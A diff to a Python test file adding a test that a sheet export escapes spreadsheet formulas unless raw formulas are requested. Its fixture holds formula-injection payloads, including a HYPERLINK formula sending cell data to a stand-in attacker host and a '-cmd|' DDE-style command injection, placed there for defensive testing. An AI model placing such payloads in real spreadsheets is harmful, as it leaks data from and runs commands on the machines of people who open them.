@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 import io
 import json
 from typing import Any
@@ -91,6 +92,23 @@ def test_each_kind_has_its_files(cast: Cast, kind: str, title: str, form: str, n
     assert (status, given.decode(), disposition) == (200, content, f'attachment; filename="{name}"')
     refused = signed_in(cast.alice).get(f"{BASE}artifacts/{artifact.pk}/export/?format=png")
     assert (refused.status_code, refused.json()["error"]["code"]) == (400, "format_unknown")
+
+
+@pytest.mark.parametrize("form", ["csv", "source"])
+def test_a_sheets_formulas_are_text_unless_they_are_asked_for(cast: Cast, form: str) -> None:
+    sheet = 'name;cost\n=HYPERLINK("https://evil.example?"&A1);-1,5\n"\t=1+1";+3 %\n\uff1d1+1;@SUM(A1)\n" -cmd|x";a=b\n'
+    artifact = make_artifact(cast.actor(cast.alice), sheet, kind="sheet", title="Costs").artifact
+    path, alice = f"artifacts/{artifact.pk}/export/?format={form}", signed_in(cast.alice)
+    rows = list(csv.reader(io.StringIO(export(alice, path)[2].decode()), delimiter=";"))
+    assert rows == [
+        ["name", "cost"],
+        ['\'=HYPERLINK("https://evil.example?"&A1)', "-1,5"],
+        ["'\t=1+1", "+3 %"],
+        ["'\uff1d1+1", "'@SUM(A1)"],
+        ["' -cmd|x", "a=b"],
+    ]
+    assert export(alice, f"{path}&formulas=kept")[2].decode() == sheet
+    assert export(alice, f"{path}&formulas=maybe")[0] == 400
 
 
 def test_only_so_many_files_are_made_at_once(cast: Cast, monkeypatch: pytest.MonkeyPatch) -> None:
